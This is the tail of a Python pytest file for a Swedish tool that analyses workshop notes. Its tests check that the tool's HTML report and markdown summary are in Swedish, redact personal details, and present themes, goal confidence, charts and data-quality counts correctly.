    "Unga mår sämre, köerna till BUP är för långa",
    "Public transport to Karlstad is too infrequent for commuters in the evening.",
]
#: Words of an English sentence that Swedish text does not use.
ENGLISH = re.compile(r"\b(the|only|are|is|at least|give|themes|statements?|were|was|see|column|this|"
                     r"which|applied|stored|left out|should|tentative|identical)\b", re.IGNORECASE)


def visible_text(html: str) -> str:
    """The report's words as a reader sees them: no markup, script, style or code (file names,
    model ids, parameters), no attribute values."""
    html = re.sub(r"(?s)<(script|style|code)\b.*?</\1>", " ", html)
    return re.sub(r"<[^>]+>", " ", html)


@pytest.fixture(scope="module")
def small_meeting(tmp_path_factory):
    import nlp_varmland as nv

    folder = tmp_path_factory.mktemp("small-meeting")
    path = folder / "Arbetsmöte november.csv"
    path.write_text("Datum;Bord;Anteckning\n" + "".join(f"2026-11-10;Bord {1 + i % 4};{t}\n"
                                                         for i, t in enumerate(SMALL_MEETING)), encoding="utf-8")
    return nv.analyze(str(path), embedder="tfidf", seed=0)


def test_a_small_meeting_reads_in_swedish_only(small_meeting):
    """Tester B10: "Att tänka på: only 14 statements: themes are tentative (at least 20 give
    stable themes)". The run's messages (English log lines) reach the Swedish report and
    summary.md in Swedish; the English note is the one English text, listed under Datakvalitet."""
    a = small_meeting
    assert any(m.startswith("only 14 statements") for m in a.messages)  # the log line stays English
    html, md = render_html(a), summary_markdown(a)
    listed = html.split('class="not-swedish"')[1].split("</details>")[0]
    assert "Public transport to Karlstad is too infrequent" in listed
    body = visible_text(html.replace(listed, ""))
    assert ENGLISH.findall(body) == [], [body[max(0, m.start() - 150):m.end() + 40] for m in ENGLISH.finditer(body)]
    note = "  - Public transport to Karlstad is too infrequent for commuters in the evening."
    assert md.count(note) == 1  # listed under "inte på svenska", to read by hand
    assert ENGLISH.findall(md.replace(note, "")) == [], ENGLISH.findall(md.replace(note, ""))
    assert "Bara 14 påståenden: temana är preliminära (minst 20 ger stabila teman)" in html
    assert "Bara 14 påståenden" in md
    assert "only 14 statements" in render_html(a, lang="en")  # the English report keeps it


def test_every_run_message_has_a_swedish_text():
    """Each message the pipeline can log (themes, stages, corrections) matches a translation."""
    from nlp_varmland.report.i18n import translate_message

    logged = ["only 1 statement: themes are tentative (at least 20 give stable themes)",
              "all statements are (nearly) identical or fewer than 3: one theme; only 2 statements: themes are "
              "tentative (at least 20 give stable themes)",
              "no statements: no themes",
              "no statement could be analysed (all empty, duplicate, too short or not Swedish); "
              "see the status column of notes.csv",
              "3 correction(s) left out: their statements are no longer analysed "
              "(duplicate, empty, too short or not Swedish)",
              "corrections applied to this run only; add --db STORE to keep them for later runs",
              "the store is read-only: the corrections were applied to this run but not stored"]
    for message in logged:
        sv = translate_message(message, "sv")
        assert ENGLISH.findall(sv) == [], sv
    assert translate_message(logged[0], "sv") == "Bara 1 påstående: temana är preliminära (minst 20 ger stabila teman)"


# ---------------------------------------------------------------------------- tester B10's audit


def test_the_themes_intro_says_the_order_the_themes_are_in(fake_analysis):
    """B10: "Teman sorterade efter storlek" while themes stood under their groups (1, 8, 2, …).
    The intro says the order (groups by their largest theme, largest first within a group), and
    the page is in that order."""
    themes = fake_analysis.themes
    ranked = themes.sort_values(["size", "theme_id"], ascending=[False, True])["theme_id"].tolist()
    groups = {ranked[0]: 0, ranked[3]: 0, ranked[1]: 1, ranked[5]: 1, ranked[2]: 2, ranked[4]: 2}
    themes["group_id"] = themes["theme_id"].map(groups)
    themes["group_label"] = themes["group_id"].map(lambda g: f"grupp {g}")
    html = render_html(fake_analysis)
    intro = html.split('id="themes"')[1].split("</p>")[0]
    assert "sorterade efter storlek" not in intro
    assert "på platsen för gruppens största tema och med det största temat först" in intro
    shown = [int(n) for n in re.findall(r'<article class="theme" id="tema-(\d+)"', html)]
    assert shown == [1, 4, 2, 6, 3, 5]  # the rank (size order) of each theme, as the page shows them
    themes["group_id"] = -1  # no groups: plain size order, and the intro says so
    html = render_html(fake_analysis)
    assert "Teman sorterade efter storlek" in html
    assert [int(n) for n in re.findall(r'<article class="theme" id="tema-(\d+)"', html)] == [1, 2, 3, 4, 5, 6]


def test_the_map_text_does_not_claim_the_spread_inside_a_theme_means_anything(fake_analysis):
    """B10: the spread of a theme on the map did not follow how different its statements are
    (layout.theme_layout fits each theme into a disc sized by its neighbours)."""
    for lang, wrong, said in (("sv", "avståndet inom ett tema visar", "säger därför inte hur olika"),
                              ("en", "the spread within a theme shows", "does not say how different")):
        html = render_html(fake_analysis, lang=lang)
        assert wrong not in html and said in html.split('id="map"')[1].split("</p>")[0]
    assert "närliggande punkter handlar om liknande saker" not in render_html(fake_analysis)  # grey dots


def test_one_formatter_for_the_share_outside_themes(fake_analysis):
    """B10: summary.md said "1 %" where the report said "0,7 %"."""
    kept = fake_analysis.notes[fake_analysis.notes["status"] == "kept"]
    share = fmt_pct(float((kept["theme_id"] < 0).mean()), "sv", 1)
    html, md = render_html(fake_analysis), summary_markdown(fake_analysis)
    assert share == "5,9\u00a0%"
    assert f"({share} av de analyserade)" in md and f"({share} av de analyserade)" in html


def test_statements_not_in_swedish_are_listed_for_the_analyst(fake_analysis):
    """B10: the English note was only counted; now it is listed (redacted text) under Datakvalitet."""
    notes = fake_analysis.notes
    i = notes.index[notes["status"] == "not_swedish"][0]
    notes.loc[i, "text"] = "Call Anna Svensson on 070-123 45 67 about the bus"
    notes.loc[i, "text_clean"] = "Call [NAMN] on [TELEFON] about the bus"
    quality = render_html(fake_analysis).split('id="quality"')[1].split('id="provenance"')[0]
    listed = quality.split('class="not-swedish"')[1].split("</details>")[0]
    assert "Call [NAMN] on [TELEFON] about the bus" in listed and "Anna" not in listed
    assert "Påståenden på annat språk än svenska (1)" in listed
    assert "  - Call \\[NAMN\\] on \\[TELEFON\\] about the bus" in summary_markdown(fake_analysis)
    notes.loc[i, "status"] = "too_short"
    assert 'class="not-swedish"' not in render_html(fake_analysis)


def test_the_evidence_for_a_goal_reads_as_swedish_for_an_analyst(fake_analysis):
    """B10: "röster: 3/8 påståenden + temats centrum · tema: nyckelord: …" is developer jargon,
    and "säkerhet 6,63" with 3 of 8 statements read as sure. The evidence is said in words; the
    statements holding the goal are counted in the notes; the level follows the threshold."""
    themes, notes = fake_analysis.themes, fake_analysis.notes
    first = themes.sort_values("size", ascending=False).index[0]
    tid, goal = themes.at[first, "theme_id"], themes.at[first, "goal_id"]
    themes.at[first, "goal_evidence"] = ('röster: 3/8 påståenden + temats centrum · tema: nyckelord: vård, omsorg · '
                                         'närmast: målets exempel "Det är långt till vårdcentralen"')
    members = notes.index[(notes["theme_id"] == tid) & (notes["status"] == "kept")]
    notes.loc[members[3:], ["goal_id", "area_id"]] = ""  # only 3 of the theme's statements keep its goal
    themes.at[first, "goal_score"] = 0.9  # >= 2 x goal_threshold 0.35: high, but 3 of n comes first
    html = render_html(fake_analysis)
    card = html.split('id="tema-1"')[1].split("</article>")[0]
    # the score alone is high, but 3 of 11 is a minority: at most "medel" (tester B12)
    assert (f"(3 av {len(members)} påståenden kopplas till målet, säkerhet medel)") in card
    evidence = card.split('class="evidence">')[1].split("</dd>")[0]
    assert evidence == ("Temat som helhet pekar på samma insatsområde; temats nyckelord som står i målet: vård, "
                        "omsorg; liknar mest målets exempel ”Det är långt till vårdcentralen”")
    for jargon in ("röster", "temats centrum", "tema:", "närmast:", " · "):
        assert jargon not in evidence
    assert goal and 'title="Poäng 0,90:' in card  # the number is in the tooltip
    themes.at[first, "goal_score"] = 0.2  # below the threshold: low
    assert "säkerhet låg" in render_html(fake_analysis).split('id="tema-1"')[1].split("</article>")[0]


def test_the_goal_level_is_capped_by_the_goal_not_by_its_area(fake_analysis):
    """The sample meetings read "Digital infrastruktur (6 av 17 påståenden kopplas till målet, 13
    till dess insatsområde, säkerhet hög)": the level was capped by the AREA's count. It is the
    goal's level, so a goal held by a minority is at most "medel" however many share its area."""
    themes, notes = fake_analysis.themes, fake_analysis.notes
    first = themes.sort_values("size", ascending=False).index[0]
    tid, goal, area = themes.at[first, "theme_id"], themes.at[first, "goal_id"], themes.at[first, "area_id"]
    assert goal and area and goal != area
    members = notes.index[(notes["theme_id"] == tid) & (notes["status"] == "kept")]
    notes.loc[members[3:], "goal_id"] = area  # the rest hold the area only: 3 of n hold the goal
    notes.loc[members, "area_id"] = area
    themes.at[first, "goal_score"] = 0.9  # >= 2 x goal_threshold 0.35: high by the score alone
    card = render_html(fake_analysis).split('id="tema-1"')[1].split("</article>")[0]
    n = len(members)
    assert f"(3 av {n} påståenden kopplas till målet, {n} till dess insatsområde, säkerhet medel)" in card


def test_every_theme_card_shows_the_theme_id_of_the_tables(fake_analysis):
    """The heading's number is the rank by size; in a history run or with an analyst's new theme
    it differs from theme_id (tester B10: theme 1029457 shown as "11."). The card names the id
    that notes.csv and themes.csv use."""
    import re

    themes = fake_analysis.themes
    themes["theme_id"] = themes["theme_id"] + 40                      # ids no longer equal ranks
    fake_analysis.notes["theme_id"] = fake_analysis.notes["theme_id"].where(
        fake_analysis.notes["theme_id"] < 0, fake_analysis.notes["theme_id"] + 40)
    html = render_html(fake_analysis)
    shown = [int(x) for x in re.findall(r'<dd class="tid">(\d+) ', html)]
    assert sorted(shown) == sorted(themes["theme_id"].astype(int).tolist())
    assert "Tema-id" in html and "numret i rubriken är temats plats efter storlek" in html


def test_statements_the_review_taught_are_marked_with_a_legend(fake_analysis):
    """Tester B11: which statements did the review change? notes.csv's ``taught`` column is shown
    in the statements table (⟲, ✎ for the analyst's own corrections), with a legend."""
    html = render_html(fake_analysis)
    assert "marks-legend" not in html and "⟲" not in html
    notes = fake_analysis.notes
    kept = notes.index[notes["status"] == "kept"]
    notes.loc[kept[:2], "taught"] = "goal_id"
    notes.loc[kept[2], "taught"] = "is_challenge"
    notes.loc[kept[3], "corrected"] = "goal_id"
    html = render_html(fake_analysis)
    assert html.count('class="taught"') == 3 and html.count('class="corrected"') == 1
    legend = html.split('class="meta marks-legend">')[1].split("</p>")[0]
    assert "✎ rättad av analytiker" in legend and "⟲ ändrad av det verktyget lärde sig" in legend


def test_the_report_names_the_strategy_the_run_used(fake_analysis):
    # tester B12: with another goal file the title still said "Värmlandsstrategin 2040", and no
    # vision was shown anywhere
    from nlp_varmland.report import render_html
    from nlp_varmland.report.summary import summary_markdown

    html = render_html(fake_analysis)
    assert "Analys av arbetsmöten – Värmlandsstrategin 2040" in html
    assert "Vision: Ett hållbart Värmland som förändrar världen" in html
    fake_analysis.run["goals"] = {"name": "sunne-2035", "title": "Sunne kommuns utvecklingsstrategi 2035",
                                  "vision": "Sunne – där livet växer"}
    fake_analysis.goalset = None
    html, md = render_html(fake_analysis), summary_markdown(fake_analysis)
    assert "<h1>Analys av arbetsmöten – Sunne kommuns utvecklingsstrategi 2035</h1>" in html
    assert md.startswith("# Sammanfattning: arbetsmöten och Sunne kommuns utvecklingsstrategi 2035")
    assert "Vision: Sunne – där livet växer" in html and "Vision: Sunne – där livet växer" in md
    assert "Värmlandsstrategin" not in html.split("<main>")[1].split("</header>")[0]
    fake_analysis.run["goals"] = {"name": "min-kommun-2030"}  # a run.json from before titles
    assert "<h1>Analys av arbetsmöten – Min kommun 2030</h1>" in render_html(fake_analysis)


def test_the_coverage_chart_has_round_ticks(fake_analysis):
    # tester B12: the axis read "0 12 25 38 50"
    import re

    from nlp_varmland.report.charts import coverage_chart
    from nlp_varmland.report.facts import collect

    areas = collect(fake_analysis)["areas"]
    for scale in (1, 7, 23):
        scaled = [dict(a, n=a["n"] * scale, children=[dict(c, n=c["n"] * scale) for c in a["children"]])
                  for a in areas]
        svg = coverage_chart(scaled)
        ticks = [int(v) for v in re.findall(r'class="tick" text-anchor="middle">(\d+)</text>', svg)]
        steps = {b - a for a, b in zip(ticks, ticks[1:])}
        assert ticks[0] == 0 and len(steps) == 1 and 2 <= len(ticks) <= 6
        step = steps.pop()
        assert str(step).rstrip("0") in {"1", "2", "5"} and ticks[-1] >= max(a["n"] for a in scaled)


def test_the_data_quality_table_counts_rows_and_the_statements_they_split_into(fake_analysis):
    """A row with several points becomes several statements, and blank rows are rows (GP, 987269e):
    the statuses add up to the statements, not to the rows read, so the table names both totals."""
    notes = fake_analysis.notes
    quality = render_html(fake_analysis).split('id="quality"')[1].split('id="provenance"')[0]
    cells = dict(re.findall(r"<tr><td><strong>([^<]+)</strong></td><td class=\"num\"><strong>([^<]+)</strong>",
                            quality))
    assert cells["Påståenden"] == fmt_int(len(notes), "sv")
    counts = [int(n.replace("\u00a0", "")) for n in re.findall(
        r"</td><td class=\"num\">([\d\u00a0]+)</td><td class=\"meta\">", quality.split("Påståenden</strong>")[1])]
    assert sum(counts[:5]) == len(notes)  # the five statuses add up to the statements


def test_too_short_statements_are_listed_for_the_analyst(fake_analysis):
    """B14: too_short notes were only counted. Like the ones not in Swedish, they are listed
    (redacted) under Datakvalitet and in summary.md, so nothing is lost from sight."""
    notes = fake_analysis.notes
    i = notes.index[notes["status"] == "kept"][0]
    notes.loc[i, ["status", "text", "text_clean"]] = ["too_short", "Ring Anna Svensson", "Ring [NAMN]"]
    quality = render_html(fake_analysis).split('id="quality"')[1].split('id="provenance"')[0]
    listed = quality.split('class="too-short"')[1].split("</details>")[0]
    assert "Ring [NAMN]" in listed and "Anna" not in listed and "För korta påståenden (" in listed
    assert "  - Ring \\[NAMN\\]" in summary_markdown(fake_analysis)
    notes.loc[notes["status"] == "too_short", "status"] = "duplicate"
    assert 'class="too-short"' not in render_html(fake_analysis)


def test_the_statements_table_names_the_table_each_statement_came_from(fake_analysis):
    """B14: the statements table had no Bord column, so an analyst could not find a note in the
    table hosts' minutes. The column is there when the input named tables, and only then."""
    notes = fake_analysis.notes
    kept = notes.index[notes["status"] == "kept"]
    notes["table"] = ""
    notes.loc[kept, "table"] = [f"Bord {i % 3 + 1}" for i in range(len(kept))]
    table = render_html(fake_analysis).split('id="note-table"')[1].split("</table>")[0]
    assert "<th>Bord</th>" in table
    first = table.split("<tbody>")[1].split("</tr>")[0]
    assert "<td>Bord 1</td>" in first and first.index("Bord 1") < first.index('class="text"')
    notes["table"] = ""
    assert "<th>Bord</th>" not in render_html(fake_analysis).split('id="note-table"')[1].split("</table>")[0]
